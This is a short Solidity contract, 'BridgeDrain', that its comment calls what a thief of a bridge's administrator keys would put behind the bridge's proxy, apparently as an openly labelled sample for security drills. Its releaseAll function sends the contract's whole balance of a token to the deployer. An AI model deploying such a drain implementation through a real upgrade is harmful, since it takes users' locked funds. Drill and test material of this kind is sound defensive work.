// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import {IERC20} from "./ERC20.sol";

/// What a thief of the bridge's administrator keys puts behind its `Proxy`, for drills: it releases everything.
contract BridgeDrain {
    address private immutable owner;

    event Released(bytes32 indexed message, address indexed token, address indexed recipient, uint256 amount);

    error NotOwner(address caller);

    constructor() {
        owner = msg.sender;
    }

    function releaseAll(address token) external {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        uint256 amount = IERC20(token).balanceOf(address(this));
        IERC20(token).transfer(owner, amount);
        emit Released(bytes32(0), token, owner, amount);
    }
}
